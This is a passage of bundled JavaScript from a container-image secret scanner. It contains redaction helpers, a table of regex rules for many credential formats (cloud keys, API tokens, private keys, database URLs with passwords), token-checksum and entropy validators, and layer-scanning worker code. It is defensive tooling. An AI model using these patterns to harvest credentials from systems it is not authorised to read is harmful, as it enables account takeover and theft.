/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   KL: () => (/* binding */ redactDeep),
/* harmony export */   iB: () => (/* binding */ redactText)
/* harmony export */ });
/* unused harmony exports findSecretsInText, replaceSecrets, redactCreatedBy */
/* harmony import */ var _image_config_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(86575);
/* harmony import */ var _config_scanner_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(68504);
/* harmony import */ var _content_scanner_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(19863);
/* harmony import */ var _redact_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(19684);
/**
 * The one redaction step for free text that leaves the process (logs, annotations, outputs, job
 * summaries, report files, errors): the scan's content rules run over the text and every secret
 * they match is replaced by its redacted form, as the scan's own reports show it. Secret-named
 * `NAME=value` assignments (an `ENV`, or `TOKEN=… cmd` inline in a `RUN`) are redacted as the
 * config scan reports them, and build-argument values in a `created_by` are masked.
 */




/** `NAME=value`, the value quoted or up to the next blank; names as the shell and ENV allow them. */
const ASSIGNMENT = /(?<![A-Za-z0-9_])([A-Za-z_][A-Za-z0-9_]*)=("[^"\n]{0,4096}"|'[^'\n]{0,4096}'|[^\s"'`;|&<>]{1,4096})/g;
function unquote(value) {
    return /^(["']).*\1$/s.test(value) ? value.slice(1, -1) : value;
}
/**
 * Credentials that are secret wherever they appear in text leaving the process, though the image
 * scan does not report them (JWTs in test files are not baked secrets): the token of an
 * `Authorization: Bearer` header (RFC 6750 b64token) and compact JWS/JWT strings (access tokens).
 */
// Not a challenge's auth-param (`Bearer resource_metadata="…"`, `realm=…`): those names are letters, _ and -.
const BEARER_HEADER = /\bBearer[ ]+(?![A-Za-z_-]+=)([A-Za-z0-9\-._~+/]{8,4096}=*)/gi;
const COMPACT_JWS = /\beyJ[A-Za-z0-9_-]{8,4096}\.eyJ[A-Za-z0-9_-]{8,8192}\.[A-Za-z0-9_-]{0,4096}/g;
/** The secret values in `text`: what the scan's content rules match, secret-named assignments, bearer tokens and JWTs. */
function findSecretsInText(text) {
    const secrets = new Set();
    for (const m of text.matchAll(BEARER_HEADER))
        secrets.add(m[1]);
    for (const m of text.matchAll(COMPACT_JWS))
        secrets.add(m[0]);
    for (const match of (0,_content_scanner_js__WEBPACK_IMPORTED_MODULE_2__/* .scanText */ .Ff)(text))
        if (text.includes(match.secret))
            secrets.add(match.secret);
    for (const m of text.matchAll(ASSIGNMENT)) {
        const value = unquote(m[2]);
        if ((0,_config_scanner_js__WEBPACK_IMPORTED_MODULE_1__/* .isSecretAssignment */ .Uj)(m[1], value))
            secrets.add(value);
    }
    return [...secrets];
}
/** Replaces each secret by its redacted form; the longest first, so no part of one is left behind. */
function replaceSecrets(text, secrets) {
    let out = text;
    for (const secret of [...secrets].filter((s) => s.length > 0).sort((a, b) => b.length - a.length)) {
        if (out.includes(secret))
            out = out.split(secret).join((0,_redact_js__WEBPACK_IMPORTED_MODULE_3__/* .redact */ .E)(secret));
    }
    return out;
}
/** Free text with every secret the scan's rules recognise redacted. */
function redactText(text) {
    if (!text)
        return text;
    return replaceSecrets(text, findSecretsInText(text));
}
/**
 * A history step's `created_by`: build-argument values masked (also where the command repeats
 * them), then redacted as free text.
 */
function redactCreatedBy(createdBy) {
    const argValues = parseBuildArgs(createdBy)
        .map(([, value]) => value)
        .filter((value) => value.length >= 4);
    const masked = maskBuildArgs(createdBy);
    return redactText(argValues.reduce((text, value) => (text.includes(value) ? text.split(value).join('***') : text), masked));
}
/** Every string in a JSON-like value redacted (keys included); numbers, booleans and null kept. */
function redactDeep(value) {
    if (typeof value === 'string')
        return redactText(value);
    if (Array.isArray(value))
        return value.map((v) => redactDeep(v));
    if (value && typeof value === 'object') {
        return Object.fromEntries(Object.entries(value).map(([k, v]) => [redactText(k), redactDeep(v)]));
    }
    return value;
}


/***/ }),

/***/ 19684:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   E: () => (/* binding */ redact),
/* harmony export */   R: () => (/* binding */ fingerprint)
/* harmony export */ });
/* harmony import */ var node_crypto__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(77598);
/* harmony import */ var node_crypto__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_crypto__WEBPACK_IMPORTED_MODULE_0__);
/** Secrets never leave the scan whole: a redacted form for people, a fingerprint for baselines. */

/** At most the first 4 and the last 2 characters; short secrets show less. */
function redact(secret) {
    if (secret.length <= 8)
        return `${secret.slice(0, 1)}…`;
    if (secret.length <= 16)
        return `${secret.slice(0, 2)}…${secret.slice(-1)}`;
    return `${secret.slice(0, 4)}…${secret.slice(-2)}`;
}
/** Stable per rule and secret value: the same secret in two layers has one fingerprint. */
function fingerprint(rule, secret) {
    return (0,node_crypto__WEBPACK_IMPORTED_MODULE_0__.createHash)('sha256').update(`${rule}\0${secret}`).digest('hex').slice(0, 32);
}


/***/ }),

/***/ 39830:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   AC: () => (/* binding */ acceptsSecret),
/* harmony export */   aO: () => (/* binding */ rules)
/* harmony export */ });
/* unused harmony export ruleById */
/* harmony import */ var _validators_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(69814);

const ROTATE = 'Remove it from the image (and from every layer: a later `rm` does not), rotate it, and inject it at run time from a secret store.';
const token = (id, title, severity, keywords, pattern, extra = {}) => ({
    id,
    title,
    severity,
    keywords,
    pattern,
    help: `${title}. ${ROTATE}`,
    ...extra,
});
const rules = [
    token('aws-access-key-id', 'AWS access key ID', 'high', ['akia', 'asia', 'abia', 'acca', 'a3t'], /\b(?<s>(?:A3T[A-Z0-9]|AKIA|ASIA|ABIA|ACCA)[A-Z2-7]{16})\b/g, { allow: [/EXAMPLE$/] }),
    token('aws-secret-access-key', 'AWS secret access key', 'critical', ['aws_secret', 'secret_access_key', 'secretaccesskey', 'aws-secret'], /(?:aws_?secret_?access_?key|secret_?access_?key|aws-secret-access-key)["']?\s{0,5}[:=]\s{0,5}["']?(?<s>[A-Za-z0-9/+]{40})(?![A-Za-z0-9/+])/gi, { allow: [/EXAMPLEKEY$/], entropy: 4 }),
    token('github-classic-token', 'GitHub token (classic)', 'critical', ['ghp_', 'gho_', 'ghu_', 'ghs_', 'ghr_'], /\b(?<s>gh[pousr]_[A-Za-z0-9]{36})\b/g, { validate: _validators_js__WEBPACK_IMPORTED_MODULE_0__/* .hasTokenChecksum */ .fU }),
    token('github-fine-grained-token', 'GitHub fine-grained personal access token', 'critical', ['github_pat_'], /\b(?<s>github_pat_[A-Za-z0-9]{22}_[A-Za-z0-9]{59})\b/g, { entropy: 4 }),
    token('gitlab-personal-access-token', 'GitLab personal access token', 'critical', ['glpat-'], /\b(?<s>glpat-[A-Za-z0-9_-]{20,50})(?![A-Za-z0-9_-])/g, { entropy: 3.5 }),
    token('gitlab-pipeline-trigger-token', 'GitLab pipeline trigger token', 'high', ['glptt-'], /\b(?<s>glptt-[0-9a-f]{40})\b/g),
    token('gitlab-runner-token', 'GitLab runner token', 'high', ['glrt-', 'gr1348941'], /\b(?<s>(?:glrt-|GR1348941)[A-Za-z0-9_-]{20,50})(?![A-Za-z0-9_-])/g, { entropy: 3.5 }),
    token('slack-token', 'Slack token', 'high', ['xoxb-', 'xoxp-', 'xoxa-', 'xoxr-', 'xoxs-', 'xoxe-'], /\b(?<s>xox[abeprs]-(?:\d{1,13}-){1,3}[A-Za-z0-9]{16,64})\b/g, { entropy: 3.5 }),
    token('slack-webhook', 'Slack incoming webhook', 'high', ['hooks.slack.com'], /(?<s>https:\/\/hooks\.slack\.com\/(?:services|workflows)\/T[A-Z0-9]{8,12}\/[AB][A-Z0-9]{8,12}\/[A-Za-z0-9]{24})/g),
    token('stripe-live-key', 'Stripe live secret or restricted key', 'critical', ['sk_live_', 'rk_live_'], /\b(?<s>(?:sk|rk)_live_[A-Za-z0-9]{24,99})\b/g, { entropy: 3.5 }),
    token('stripe-webhook-secret', 'Stripe webhook signing secret', 'medium', ['whsec_'], /\b(?<s>whsec_[A-Za-z0-9]{32,64})\b/g, { entropy: 3.5 }),
    token('google-api-key', 'Google API key', 'high', ['aiza'], /\b(?<s>AIza[0-9A-Za-z_-]{35})(?![0-9A-Za-z_-])/g, { entropy: 3.5 }),
    {
        id: 'gcp-service-account-key',
        title: 'Google Cloud service-account key (JSON)',
        severity: 'critical',
        keywords: ['service_account'],
        pattern: /"type"\s{0,5}:\s{0,5}"service_account"[^}]{0,4000}?"private_key"\s{0,5}:\s{0,5}"(?<s>-----BEGIN PRIVATE KEY-----[A-Za-z0-9+/=\\n]{100,4000}-----END PRIVATE KEY-----(?:\\n)?)"/g,
        validate: (s) => (0,_validators_js__WEBPACK_IMPORTED_MODULE_0__/* .isCompletePemBody */ .eU)(s),
        help: `A Google Cloud service-account key file. ${ROTATE}`,
    },
    {
        id: 'private-key',
        title: 'Private key (PEM or OpenSSH)',
        severity: 'critical',
        keywords: ['private key-----'],
        pattern: /(?<s>-----BEGIN (?:RSA |EC |DSA |OPENSSH |ENCRYPTED |PGP )?PRIVATE KEY(?: BLOCK)?-----[A-Za-z0-9+/=\s:,\\"'-]{64,12000}?-----END (?:RSA |EC |DSA |OPENSSH |ENCRYPTED |PGP )?PRIVATE KEY(?: BLOCK)?-----)/g,
        validate: (s) => (0,_validators_js__WEBPACK_IMPORTED_MODULE_0__/* .isCompletePemBody */ .eU)(s),
        help: `A complete private key block. ${ROTATE}`,
    },
    token('npm-access-token', 'npm access token', 'critical', ['npm_'], /\b(?<s>npm_[A-Za-z0-9]{36})\b/g, { validate: _validators_js__WEBPACK_IMPORTED_MODULE_0__/* .hasTokenChecksum */ .fU }),
    token('pypi-upload-token', 'PyPI upload token', 'critical', ['pypi-ageichlwa'], /\b(?<s>pypi-AgEIcHlwaS5vcmc[A-Za-z0-9_-]{50,300})(?![A-Za-z0-9_-])/g),
    token('openai-api-key', 'OpenAI API key', 'critical', ['t3blbkfj'], /\b(?<s>sk-(?:proj-|svcacct-|admin-)?[A-Za-z0-9_-]{20,160}T3BlbkFJ[A-Za-z0-9_-]{20,160})(?![A-Za-z0-9_-])/g),
    token('anthropic-api-key', 'Anthropic API key', 'critical', ['sk-ant-'], /\b(?<s>sk-ant-(?:api03|admin01)-[A-Za-z0-9_-]{93}AA)(?![A-Za-z0-9_-])/g),
    token('huggingface-token', 'Hugging Face access token', 'high', ['hf_'], /\b(?<s>hf_[A-Za-z]{34})\b/g, { entropy: 3.8 }),
    token('sendgrid-api-key', 'SendGrid API key', 'high', ['sg.'], /\b(?<s>SG\.[A-Za-z0-9_-]{22}\.[A-Za-z0-9_-]{43})(?![A-Za-z0-9_-])/g, { entropy: 4 }),
    token('twilio-api-key', 'Twilio API key', 'high', ['twilio'], /twilio[\s\S]{0,100}?\b(?<s>SK[0-9a-f]{32})\b/gi, { entropy: 3 }),
    token('digitalocean-token', 'DigitalOcean token', 'critical', ['dop_v1_', 'doo_v1_', 'dor_v1_'], /\b(?<s>do[opr]_v1_[a-f0-9]{64})\b/g),
    token('vault-token', 'HashiCorp Vault token', 'critical', ['hvs.', 'hvb.'], /\b(?<s>hv[sb]\.[A-Za-z0-9_-]{90,200})(?![A-Za-z0-9_-])/g, { entropy: 4 }),
    token('azure-ad-client-secret', 'Azure AD client secret', 'high', ['q~'], /(?<![A-Za-z0-9_~.-])(?<s>[A-Za-z0-9_~.]{3}\dQ~[A-Za-z0-9_~.-]{31,34})(?![A-Za-z0-9_~.-])/g, { entropy: 4 }),
    token('dockerhub-pat', 'Docker Hub personal access token', 'high', ['dckr_pat_'], /\b(?<s>dckr_pat_[A-Za-z0-9_-]{27})(?![A-Za-z0-9_-])/g),
    token('shopify-token', 'Shopify access token', 'high', ['shpat_', 'shpca_', 'shppa_', 'shpss_'], /\b(?<s>shp(?:at|ca|pa|ss)_[a-fA-F0-9]{32})\b/g),
    token('square-access-token', 'Square access token', 'high', ['sq0atp-', 'sq0csp-'], /\b(?<s>sq0(?:atp|csp)-[0-9A-Za-z_-]{22,43})(?![0-9A-Za-z_-])/g, { entropy: 3.5 }),
    token('telegram-bot-token', 'Telegram bot token', 'medium', [':aa'], /\b(?<s>\d{8,10}:AA[0-9A-Za-z_-]{33})(?![0-9A-Za-z_-])/g),
    token('discord-webhook', 'Discord webhook', 'high', ['discord.com/api/webhooks', 'discordapp.com/api/webhooks'], /(?<s>https:\/\/discord(?:app)?\.com\/api\/webhooks\/\d{10,20}\/[A-Za-z0-9_-]{60,70})/g),
    token('atlassian-api-token', 'Atlassian API token', 'high', ['atatt3'], /\b(?<s>ATATT3[A-Za-z0-9_=-]{180,200})(?![A-Za-z0-9_=-])/g),
    token('linear-api-key', 'Linear API key', 'high', ['lin_api_'], /\b(?<s>lin_api_[A-Za-z0-9]{40})\b/g),
    token('new-relic-user-key', 'New Relic user API key', 'high', ['nrak-'], /\b(?<s>NRAK-[A-Z0-9]{27})\b/g),
    token('age-secret-key', 'age encryption secret key', 'critical', ['age-secret-key-1'], /\b(?<s>AGE-SECRET-KEY-1[QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L]{58})\b/g),
    token('pulumi-access-token', 'Pulumi access token', 'high', ['pul-'], /\b(?<s>pul-[a-f0-9]{40})\b/g),
    token('doppler-token', 'Doppler token', 'high', ['dp.pt.', 'dp.st.', 'dp.sa.'], /\b(?<s>dp\.(?:pt|st|sa|ct)\.[A-Za-z0-9]{40,44})\b/g),
    token('grafana-token', 'Grafana service-account or cloud token', 'high', ['glsa_', 'glc_'], /\b(?<s>glsa_[A-Za-z0-9]{32}_[A-Fa-f0-9]{8}|glc_[A-Za-z0-9+/]{32,400}={0,2})(?![A-Za-z0-9+/_])/g, { entropy: 4 }),
    token('postman-api-key', 'Postman API key', 'high', ['pmak-'], /\b(?<s>PMAK-[a-f0-9]{24}-[a-f0-9]{34})\b/g),
    token('sentry-auth-token', 'Sentry auth token', 'high', ['sntrys_', 'sntryu_'], /\b(?<s>sntrys_eyJ[A-Za-z0-9+/=_-]{60,400}|sntryu_[a-f0-9]{64})(?![A-Za-z0-9+/=_-])/g),
    token('kubernetes-service-account-token', 'Kubernetes service-account token', 'critical', ['eyj'], /\b(?<s>eyJ[A-Za-z0-9_-]{10,2000}\.eyJ[A-Za-z0-9_-]{10,4000}\.[A-Za-z0-9_-]{20,1000})(?![A-Za-z0-9_-])/g, { validate: _validators_js__WEBPACK_IMPORTED_MODULE_0__/* .isKubernetesServiceAccountToken */ .im }),
    token('jwt-credential', 'JWT with credential claims (service role, admin or write scope)', 'high', ['eyj'], /\b(?<s>eyJ[A-Za-z0-9_-]{10,2000}\.eyJ[A-Za-z0-9_-]{10,4000}\.[A-Za-z0-9_-]{20,1000})(?![A-Za-z0-9_-])/g, { validate: _validators_js__WEBPACK_IMPORTED_MODULE_0__/* .isCredentialJwt */ .Nu }),
    {
        id: 'database-url-password',
        title: 'Database URL with a password',
        severity: 'high',
        keywords: ['postgres://', 'postgresql://', 'mysql://', 'mongodb://', 'mongodb+srv://', 'redis://', 'rediss://', 'amqp://', 'amqps://', 'mssql://', 'mariadb://'],
        pattern: /\b(?:postgres(?:ql)?|mysql|mariadb|mongodb(?:\+srv)?|rediss?|amqps?|mssql):\/\/(?<u>[^\s:@/"'`]{0,64}):(?<s>[^\s@/"'`]{3,128})@[A-Za-z0-9.-]{1,253}/g,
        validate: (s) => !(0,_validators_js__WEBPACK_IMPORTED_MODULE_0__/* .isPlaceholder */ .wK)(s) && !/^(?:password|pass|pwd|secret|postgres|root|user|admin|test|guest)$/i.test(s),
        help: `A connection URL that carries its password. ${ROTATE}`,
    },
    {
        id: 'url-basic-auth',
        title: 'Password in an HTTP(S) URL',
        severity: 'medium',
        keywords: ['http://', 'https://'],
        pattern: /\bhttps?:\/\/(?<u>[A-Za-z0-9._~%-]{1,64}):(?<s>[A-Za-z0-9._~%!$&'()*+,;=-]{8,128})@[A-Za-z0-9.-]{1,253}/g,
        validate: (s) => !(0,_validators_js__WEBPACK_IMPORTED_MODULE_0__/* .isPlaceholder */ .wK)(s),
        entropy: 3,
        help: `A URL with user:password credentials. ${ROTATE}`,
    },
    {
        id: 'generic-secret-assignment',
        title: 'High-entropy value assigned to a secret-named key',
        severity: 'medium',
        keywords: ['secret', 'token', 'password', 'passwd', 'api_key', 'apikey', 'api-key', 'access_key', 'private_key', 'client_secret', 'auth'],
        pattern: /(?<k>[A-Za-z0-9_.-]{0,40}(?:secret|token|passw(?:or)?d|api[_-]?key|access[_-]?key|private[_-]?key|auth[_-]?key|credential)s?)["']?\s{0,5}(?:=|:|:=|=>)\s{0,5}["'`]?(?<s>[A-Za-z0-9_\-+/=.@!$%^&*~]{16,128})(?=["'`\s,;)}]|$)/gim,
        // The pattern without its leading key characters (tried from every position, they made it the
        // scan's costliest) and its end: most windows of these common words hold no assignment.
        precheck: /(?:secret|token|passw(?:or)?d|api[_-]?key|access[_-]?key|private[_-]?key|auth[_-]?key|credential)s?["']?\s{0,5}(?:=|:|:=|=>)\s{0,5}["'`]?[A-Za-z0-9_\-+/=.@!$%^&*~]{16}/i,
        entropy: 3.5,
        validate: (s) => !(0,_validators_js__WEBPACK_IMPORTED_MODULE_0__/* .isPlaceholder */ .wK)(s) && /[0-9]/.test(s) && /[A-Za-z]/.test(s) && !/^[A-Za-z_$][\w$]*(?:\.[A-Za-z_$][\w$]*)+$/.test(s) && !/^(?:process\.env|os\.environ|env\.|this\.|self\.)/.test(s),
        help: `A secret-named key set to a high-entropy value. If it is a real credential: ${ROTATE} If it is not, add it to the baseline with a reason.`,
    },
];
function ruleById(id) {
    return rules.find((r) => r.id === id);
}
/** Applies a rule's structure checks to a secret found by its pattern. */
function acceptsSecret(rule, secret, match) {
    if (rule.allow?.some((re) => re.test(secret)))
        return false;
    if (rule.entropy !== undefined && (0,_validators_js__WEBPACK_IMPORTED_MODULE_0__/* .shannonEntropy */ .ly)(secret) < rule.entropy)
        return false;
    return rule.validate ? rule.validate(secret, match) : true;
}


/***/ }),

/***/ 23054:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  scanImage: () => (/* binding */ scanImage)
});

// UNUSED EXPORTS: defaultWorkers

// EXTERNAL MODULE: external "node:os"
var external_node_os_ = __webpack_require__(48161);
// EXTERNAL MODULE: ./src/image/filesystem-index.ts
var filesystem_index = __webpack_require__(13347);
// EXTERNAL MODULE: ./src/image/reader.ts + 7 modules
var reader = __webpack_require__(5711);
// EXTERNAL MODULE: ./src/scan/baseline.ts
var baseline = __webpack_require__(76758);
// EXTERNAL MODULE: ./src/scan/config-scanner.ts
var config_scanner = __webpack_require__(68504);
// EXTERNAL MODULE: external "node:worker_threads"
var external_node_worker_threads_ = __webpack_require__(75919);
// EXTERNAL MODULE: ./src/util/errors.ts
var errors = __webpack_require__(70017);
// EXTERNAL MODULE: ./src/scan/content-scanner.ts + 1 modules
var content_scanner = __webpack_require__(19863);
// EXTERNAL MODULE: ./src/scan/credential-files.ts
var credential_files = __webpack_require__(34962);
;// CONCATENATED MODULE: ./src/scan/layer-scan.ts
/**
 * Scanning one layer's files, and the worker-thread pool that scans layers in parallel. A worker
 * reopens the image itself (a docker-daemon source through its spooled archive) and sends back
 * plain data: the layer's listing and its raw findings.
 */





const CREDENTIAL_FILE_MAX = 1024 * 1024;
const fileRuleSeverity = new Map(credential_files/* fileRules */._h.map((r) => [r.id, r.severity]));
/**
 * The sink that scans one file's content as the tar parser hands it over, in the same turn: no
 * stream or promise per file (most files are one small slice).
 */
function scanEntry(entry, maxFileSize, display, done) {
    const kind = (0,credential_files/* credentialFileKind */.Wq)(entry.path);
    const scanner = new content_scanner/* ContentScanner */.SQ();
    const kept = [];
    let keptBytes = 0;
    return {
        write(chunk) {
            scanner.push(chunk);
            if (kind && keptBytes < CREDENTIAL_FILE_MAX) {
                kept.push(chunk);
                keptBytes += chunk.length;
            }
            if (!scanner.binary && scanner.bytes > maxFileSize) {
                throw new errors/* InputError */.dz(`${display}: layer ${entry.layerIndex}: ${entry.path} is a text file over the ${maxFileSize}-byte max-file-size; raise the limit so it can be scanned (a scan never skips what it cannot read)`);
            }
        },
        end() {
            const found = scanner.finish().map((m) => ({ rule: m.rule.id, severity: m.rule.severity, where: 'file', path: entry.path, line: m.line, secret: m.secret }));
            if (!kind)
                return done(found, scanner.bytes);
            // A credential file's own rule names the secret better than a content rule that also matched it.
            const byFile = (0,credential_files/* checkCredentialFile */.cz)(kind, Buffer.concat(kept));
            const rest = found.filter((f) => !byFile.some((m) => m.secret.includes(f.secret) || f.secret.includes(m.secret)));
            const named = byFile.map((m) => ({ rule: m.rule, severity: fileRuleSeverity.get(m.rule), where: 'file', path: entry.path, line: m.line, secret: m.secret }));
            done([...named, ...rest], scanner.bytes);
        },
    };
}
async function scanLayer(image, index, maxFileSize) {
    const found = [];
    let files = 0;
    let bytes = 0;
    const listing = await image.readLayer(index, (entry) => {
        // Files, and entries of an unknown type that still carry bytes in the blob.
        if (entry.type !== 'file' && !(entry.type === 'other' && entry.size > 0))
            return;
        if (entry.type === 'file')
            files++;
        return scanEntry(entry, maxFileSize, image.source.display, (result, scanned) => {
            bytes += scanned;
            for (const f of result)
                found.push({ ...f, layerIndex: entry.layerIndex });
        });
    });
    return { listing, found, files, bytes };
}
/** The worker's side: opens the image once, then scans each layer index it is sent. */
async function serveScanWorker(port, init) {
    let image;
    port.on('message', async (index) => {
        if (index === null) {
            await image?.close();
            port.close?.();
            return;
        }
        try {
            image ??= await openImage(init.source, init.read);
            port.postMessage({ ok: true, result: await scanLayer(image, index, init.maxFileSize) });
        }
        catch (error) {
            port.postMessage({ ok: false, message: error.message, known: error instanceof OrchestratorError });
        }
    });
}
/** Scans every layer on `count` worker threads running `script` (the bundle that serves them). */
async function scanLayersOnWorkers(script, init, layerCount, count) {
    const results = new Array(layerCount);
    let next = 0;
    const workers = Array.from({ length: Math.max(1, Math.min(count, layerCount)) }, () => new external_node_worker_threads_.Worker(script, { workerData: { mcpOrchestratorScanWorker: init } }));
    try {
        await Promise.all(workers.map((worker) => new Promise((resolve, reject) => {
            const send = () => worker.postMessage(next < layerCount ? next++ : null);
            let current = -1;
            worker.on('message', (reply) => {
                if (!reply.ok)
                    return reject(reply.known ? new errors/* InputError */.dz(reply.message) : new Error(reply.message));
                results[current] = reply.result;
                if (next >= layerCount)
                    return resolve();
                current = next;
                send();
            });
            worker.on('error', reject);
            worker.on('exit', (code) => (code === 0 ? resolve() : reject(new Error(`scan worker exited with code ${code}`))));
            current = next;
            send();
        })));
    }
    finally {
        await Promise.all(workers.map((w) => w.terminate()));
    }
    return results;
}

// EXTERNAL MODULE: ./src/scan/redact.ts
var redact = __webpack_require__(19684);
;// CONCATENATED MODULE: ./src/scan/types.ts
/** The scan's public types: rules, findings and the JSON report. */
const severities = ['critical', 'high', 'medium', 'low'];
/** Orders severities: lower number, more severe. */
function severityRank(severity) {
    return severities.indexOf(severity);
}
/** Whether a finding of `severity` fails a scan run with `failOn`. */
function failsAt(severity, failOn) {
    return failOn !== 'none' && severityRank(severity) <= severityRank(failOn);
}

;// CONCATENATED MODULE: ./src/scan/scan-image.ts
/**
 * The scan: every file of every layer (deleted and replaced ones included: they are still in the
 * image for anyone who pulls it), credential files by name and structure, and the image config.
 * Layers stream through the reader; nothing is written to disk; a scan either reads everything
 * it was asked to or fails.
 */








async function inThread(image, maxFileSize, concurrency) {
    const results = new Array(image.layers.length);
    let next = 0;
    const worker = async () => {
        for (let i = next++; i < image.layers.length; i = next++)
            results[i] = await scanLayer(image, i, maxFileSize);
    };
    await Promise.all(Array.from({ length: Math.max(1, Math.min(concurrency, image.layers.length)) }, worker));
    return results;
}
/**
 * Worker threads pay for themselves only with cores to spare: in one thread, two layers' gunzip
 * already runs on libuv's pool while the scan runs on the main thread. Measured on 2 cores
 * (bench/scan.mjs, realistic image): one thread 1.55 s / 152 MB, two workers 2.71 s / 239 MB.
 * So: workers (one per spare core, at most one per layer) from 3 cores up, one thread below.
 */
function defaultWorkers(layers) {
    const cores = (0,external_node_os_.availableParallelism)();
    return cores > 2 ? Math.max(1, Math.min(cores - 1, layers)) : 0;
}
async function scanImage(source, options = {}) {
    const started = process.hrtime.bigint();
    const maxFileSize = options.maxFileSize ?? 256 * 1024 * 1024;
    const image = await (0,reader/* openImage */.U)(source, options);
    try {
        const workers = options.workers ?? defaultWorkers(image.layers.length);
        const layerScans = options.workerScript && workers > 0
            ? await scanLayersOnWorkers(options.workerScript, { source: image.reopenSource, read: { platform: options.platform, limits: options.limits, registry: options.registry, tempDir: options.tempDir }, maxFileSize }, image.layers.length, workers)
            : await inThread(image, maxFileSize, options.concurrency ?? 2);
        const index = new filesystem_index/* FilesystemIndex */.w(layerScans.map((l) => l.listing));
        const raw = layerScans.flatMap((l) => l.found);
        const files = layerScans.reduce((n, l) => n + l.files, 0);
        const bytes = layerScans.reduce((n, l) => n + l.bytes, 0);
        for (const m of (0,config_scanner/* scanImageConfig */.ro)(image.config)) {
            raw.push({ rule: m.rule, severity: m.severity, where: m.where, name: m.name, secret: m.secret, layerIndex: m.layerIndex });
        }
        // A secret used inline in a RUN step is in its created_by too: reports show it redacted.
        const secrets = [...new Set(raw.map((r) => r.secret).filter((s) => s.length >= 6))];
        const scrub = (text) => secrets.reduce((t, s) => (t.includes(s) ? t.split(s).join((0,redact/* redact */.E)(s)) : t), text);
        const findings = raw.map(({ secret, layerIndex, ...f }) => {
            const layer = layerIndex === undefined ? undefined : image.layers[layerIndex];
            const finding = { ...f, match: (0,redact/* redact */.E)(secret), fingerprint: (0,redact/* fingerprint */.R)(f.rule, secret) };
            if (layer)
                finding.layer = { index: layer.index, digest: layer.digest, ...(layer.createdBy ? { createdBy: scrub(layer.createdBy) } : {}) };
            if (f.where === 'file' && f.path && layerIndex !== undefined)
                finding.deleted = !index.isPresent(f.path, layerIndex);
            return finding;
        });
        findings.sort((a, b) => severityRank(a.severity) - severityRank(b.severity) || (a.layer?.index ?? -1) - (b.layer?.index ?? -1) || (a.path ?? '').localeCompare(b.path ?? ''));
        const kept = [];
        const suppressed = [];
        for (const finding of findings) {
            const entry = (0,baseline/* acceptedBy */.l)(options.baseline, finding);
            if (entry)
                suppressed.push({ ...finding, reason: entry.reason });
            else
                kept.push(finding);
        }
        return {
            image: { source: image.source.display, digest: image.digest },
            findings: kept,
            suppressed,
            stats: { layers: image.layers.length, files, bytes, seconds: Number(process.hrtime.bigint() - started) / 1e9 },
        };
    }
    finally {
        await image.close();
    }
}


/***/ }),

/***/ 69814:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Nu: () => (/* binding */ isCredentialJwt),
/* harmony export */   eU: () => (/* binding */ isCompletePemBody),
/* harmony export */   fU: () => (/* binding */ hasTokenChecksum),
/* harmony export */   im: () => (/* binding */ isKubernetesServiceAccountToken),
/* harmony export */   ly: () => (/* binding */ shannonEntropy),
/* harmony export */   wK: () => (/* binding */ isPlaceholder)
/* harmony export */ });
/* harmony import */ var node_zlib__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(38522);
/* harmony import */ var node_zlib__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_zlib__WEBPACK_IMPORTED_MODULE_0__);
/** Structure checks that turn a pattern match into a finding: checksums, lengths, entropy, claims. */

const BASE62 = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz';
function decodeBase62(text) {
    let value = 0;
    for (const ch of text) {
        const digit = BASE62.indexOf(ch);
        if (digit < 0)
            return -1;
        value = value * 62 + digit;
    }
    return value;
}
/**
 * GitHub classic tokens (ghp_, gho_, ghu_, ghs_, ghr_) and npm tokens (npm_): 30 random base62
 * characters, then 6 characters of base62 CRC32 over those 30.
 */
function hasTokenChecksum(token) {
    const body = token.slice(token.indexOf('_') + 1);
    if (body.length !== 36)
        return false;
    return decodeBase62(body.slice(30)) === (0,node_zlib__WEBPACK_IMPORTED_MODULE_0__.crc32)(body.slice(0, 30)) >>> 0;
}
/** Shannon entropy in bits per character. */
function shannonEntropy(text) {
    if (!text)
        return 0;
    const counts = new Map();
    for (const ch of text)
        counts.set(ch, (counts.get(ch) ?? 0) + 1);
    let bits = 0;
    for (const n of counts.values()) {
        const p = n / text.length;
        bits -= p * Math.log2(p);
    }
    return bits;
}
const PLACEHOLDER = /^(?:\$\{?[A-Za-z_][A-Za-z0-9_]*\}?|\{\{.*\}\}|<[^>]*>|%\(?[A-Za-z_]+\)?s?|\[.*\]|(.)\1{5,}|[xX*._-]{4,}.*|.*(?:changeme|change_me|example|placeholder|dummy|sample|fake|redacted|your[-_]?(?:key|token|secret|password)|xxxx|\*\*\*\*|insert|replace|todo|secret_here|password_here).*)$/i;
/** Values that stand for a secret rather than being one: ${VAR}, <your-key>, changeme, xxxx… */
function isPlaceholder(value) {
    return PLACEHOLDER.test(value.trim());
}
function decodeSegment(segment) {
    try {
        const json = Buffer.from(segment, 'base64url').toString('utf8');
        const value = JSON.parse(json);
        return typeof value === 'object' && value !== null ? value : undefined;
    }
    catch {
        return undefined;
    }
}
/** A JWT whose claims make it a credential: a Kubernetes service-account token. */
function isKubernetesServiceAccountToken(jwt) {
    const [header, payload] = jwt.split('.');
    const h = header && decodeSegment(header);
